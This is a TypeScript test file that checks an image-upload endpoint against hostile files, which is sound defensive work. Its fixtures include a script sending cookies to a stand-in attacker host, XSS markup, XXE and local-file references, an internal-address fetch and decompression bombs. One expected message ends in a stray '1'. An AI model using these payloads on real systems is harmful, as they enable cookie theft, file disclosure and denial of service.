import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { uploads } from '../../db/schema/index.ts';
import { member, sampleImage } from '../../test/builders.ts';
import { useTestApp } from '../../test/test-app.ts';
import { animatedGif, decompressionBomb, jpegDeclaring, photo, served, upload } from './images.testing.ts';

const t = useTestApp();

describe('hostile uploads', () => {
  const expectRefused = (response: Awaited<ReturnType<typeof upload>>, status: number, message: string) => {
    expect(response.statusCode).toBe(status);
    expect(response.json()).toMatchObject({ errors: { image: [message] } });
  };

  it('rasterises an SVG with a script: served as a JPEG under a .jpg name, no markup left', async () => {
    const user = await member(t);
    const svg = Buffer.from(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="80" height="60" onload="alert(2)">' +
        '<script type="text/javascript">fetch("https://evil.example/"+document.cookie)</script>' +
        '<foreignObject width="80" height="60"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(3)"/></foreignObject>' +
        '<rect width="80" height="60" fill="#0a0"/></svg>',
    );
    const response = await upload(user, svg, { filename: 'x.svg', contentType: 'image/svg+xml' });
    expect(response.statusCode).toBe(200);
    const { filename } = response.json().data;
    expect(filename).toMatch(/\.jpg$/);
    const file = await served(filename, user);
    expect(file.headers['content-type']).toBe('image/jpeg');
    for (const text of ['<svg', 'script', 'evil.example', 'onload', 'javascript']) {
      expect(file.rawPayload.includes(Buffer.from(text))).toBe(false);
    }
    expect(await sharp(file.rawPayload).metadata()).toMatchObject({ format: 'jpeg', width: 80, height: 60 });
  });

  it('re-encodes a JPEG with an HTML tail: nothing after the end of the image, no HTML', async () => {
    const user = await member(t);
    const html = Buffer.from('<html><body><script>alert(document.domain)</script></body></html>');
    const response = await upload(user, Buffer.concat([await photo(64, 48), html]), {
      filename: 'x.jpg',
      contentType: 'image/jpeg',
    });
    expect(response.statusCode).toBe(200);
    const file = (await served(response.json().data.filename, user)).rawPayload;
    expect(file.subarray(0, 2)).toEqual(Buffer.from([0xff, 0xd8]));
    expect(file.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9]));
    expect(file.includes(Buffer.from('<html'))).toBe(false);
    expect(file.includes(Buffer.from('script'))).toBe(false);
  });

  it.each([
    ['a PNG', () => Promise.resolve(decompressionBomb(50_000))],
    ['a JPEG', () => jpegDeclaring(50_000, 50_000)],
    [
      'an SVG',
      () =>
        Promise.resolve(
          Buffer.from(
            '<svg xmlns="http://www.w3.org/2000/svg" width="50000" height="50000"><rect width="9" height="9"/></svg>',
          ),
        ),
    ],
  ])('refuses %s declaring 50,000 x 50,000 pixels before decoding it', async (_case, make) => {
    const user = await member(t);
    const file = await make();
    expect(file.length).toBeLessThan(4096);
    expectRefused(await upload(user, file), 422, 'The image dimensions are too large.');
  });

  it('refuses an animation whose frames together are over the pixel limit', async () => {
    const user = await member(t);
    // 4000 x 3000 per frame is allowed alone; five frames make 60 megapixels
    const frames = await Promise.all(
      [0, 1, 2, 3, 4].map((n) =>
        sharp({ create: { width: 4000, height: 3000, channels: 3, background: { r: n * 40, g: 0, b: 0 } } })
          .png()
          .toBuffer(),
      ),
    );
    const gif = await sharp(frames, { join: { animated: true } })
      .gif()
      .toBuffer();
    expect(gif.length).toBeLessThan(10 * 1024 * 1024);
    expectRefused(await upload(user, gif), 422, 'The image dimensions are too large.');
  });

  it.each([
    [
      'a PDF named .jpg',
      Buffer.from('%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'),
    ],
    ['an empty file', Buffer.alloc(0)],
    ['an HTML page named .jpg', Buffer.from('<!doctype html><html><script>alert(1)</script></html>')],
    ['random bytes', Buffer.from(Array.from({ length: 2048 }, (_, i) => (i * 2654435761) >>> 24))],
  ])('refuses %s as not an image', async (_case, file) => {
    const user = await member(t);
    expectRefused(
      await upload(user, file, { filename: 'photo.jpg', contentType: 'image/jpeg' }),
      422,
      'The file provided is not an image.1',
    );
  });

  it.each([
    ['a local file', '<image href="file:///etc/passwd" width="10" height="10"/>'],
    ['another site', '<image href="http://127.0.0.1:9/x.png" width="10" height="10"/>'],
    ['an external entity', '<text y="10">&xxe;</text>'],
  ])('renders an SVG pointing at %s without fetching it, never a 500', async (_case, element) => {
    const user = await member(t);
    const svg = Buffer.from(
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' +
        `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30">${element}</svg>`,
    );
    const response = await upload(user, svg, { filename: 'x.svg', contentType: 'image/svg+xml' });
    expect([200, 422]).toContain(response.statusCode);
    if (response.statusCode === 200) {
      const file = (await served(response.json().data.filename, user)).rawPayload;
      expect(file.includes(Buffer.from('root:'))).toBe(false);
    }
  });

  it('never answers a 500 for a JPEG cut short anywhere', async () => {
    const user = await member(t);
    const jpeg = await photo(64, 48);
    for (const length of [2, 20, 200, Math.floor(jpeg.length / 2), jpeg.length - 2]) {
      const response = await upload(user, jpeg.subarray(0, length));
      expect([200, 422]).toContain(response.statusCode);
    }
  });

  it('refuses a file over the byte limit with a message, even one that is a real image', async () => {
    const user = await member(t);
    const big = Buffer.concat([await sampleImage('png'), Buffer.alloc(10 * 1024 * 1024, 7)]);
    expectRefused(await upload(user, big), 422, 'The image must not be greater than 10240 kilobytes.');
  });

  it('strips GPS and other EXIF from the image and from every variant', async () => {
    const user = await member(t);
    const withGps = await sharp(await photo(640, 480))
      .withExif({
        IFD0: { Make: 'secret-camera-make', Copyright: 'secret-owner' },
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '14/1 35/1 4500/100',
          GPSLongitudeRef: 'E',
          GPSLongitude: '120/1 58/1 3000/100',
        },
      })
      .jpeg()
      .toBuffer();
    const before = await sharp(withGps).metadata();
    expect(before.exif?.includes(Buffer.from('secret-owner'))).toBe(true);
    const response = await upload(user, withGps, { filename: 'x.jpg', contentType: 'image/jpeg' });
    expect(response.statusCode).toBe(200);
    const rows = await t.db.select().from(uploads).where(eq(uploads.userId, user.user.id));
    expect(rows).toHaveLength(5);
    for (const row of rows) {
      const file = (await served(row.key, user)).rawPayload;
      const metadata = await sharp(file).metadata();
      expect(metadata.exif).toBeUndefined();
      expect(metadata.xmp).toBeUndefined();
      for (const text of ['Exif', 'secret-owner', 'secret-camera-make']) {
        expect(file.includes(Buffer.from(text))).toBe(false);
      }
    }
  });

  it('keeps the animation of a GIF, served as a GIF', async () => {
    const user = await member(t);
    const response = await upload(user, await animatedGif(['#f00', '#0f0', '#00f']), {
      filename: 'a.gif',
      contentType: 'image/gif',
    });
    expect(response.statusCode).toBe(200);
    const { filename, absolute_url } = response.json().data;
    expect(filename).toMatch(/^uploads\/[0-9a-f-]{36}\.gif$/);
    expect(absolute_url).toBe(`http://localhost:3000/media/${filename}`);
    const file = await served(filename, user);
    expect(file.headers['content-type']).toBe('image/gif');
    expect(await sharp(file.rawPayload).metadata()).toMatchObject({ format: 'gif', pages: 3, width: 40 });
    // the 500 px version a post shows moves too; the thumbnail and the blurred preview stay still
    const variants = await t.db.select().from(uploads).where(eq(uploads.parentKey, filename));
    const formats = Object.fromEntries(
      await Promise.all(
        variants.map(async (row) => {
          const metadata = await sharp((await served(row.key, user)).rawPayload).metadata();
          return [row.variant, { format: metadata.format, pages: metadata.pages ?? 1 }];
        }),
      ),
    );
    expect(formats).toEqual({
      WH500: { format: 'gif', pages: 3 },
      WH100: { format: 'jpeg', pages: 1 },
      PREVIEW: { format: 'jpeg', pages: 1 },
    });
    expect(variants.find((row) => row.variant === 'WH500')?.key).toMatch(/\.gif$/);
  });

  it.each([
    ['a TIFF', () => sampleImage('tiff')],
    [
      'an AVIF',
      () =>
        sharp({ create: { width: 40, height: 30, channels: 3, background: '#333' } })
          .avif()
          .toBuffer(),
    ],
  ])('refuses %s named .png: an image, but not an allowed type', async (_case, make) => {
    const user = await member(t);
    expectRefused(
      await upload(user, await make(), { filename: 'x.png', contentType: 'image/png' }),
      422,
      'The image must be a file of type: jpg, jpeg, png, svg, webp, gif',
    );
  });

  it('asks for the image when the form has only other fields, or the body is not multipart', async () => {
    const user = await member(t);
    const boundary = '----pixelform';
    const fieldsOnly = await user.browser.post(
      '/v1/images/upload',
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="caption"\r\n\r\nhi\r\n--${boundary}--\r\n`,
      ),
      { 'content-type': `multipart/form-data; boundary=${boundary}` },
    );
    expectRefused(fieldsOnly, 422, 'The image field is required.');
    const raw = await user.browser.post('/v1/images/upload', await sampleImage('jpeg'), {
      'content-type': 'image/jpeg',
    });
    // a body of a type no route reads is turned away before the route, in the usual error shape
    expect(raw.statusCode).toBe(415);
    expect(raw.json()).toMatchObject({
      exception: 'UnsupportedMediaTypeException',
      message: expect.any(String),
    });
  });
});
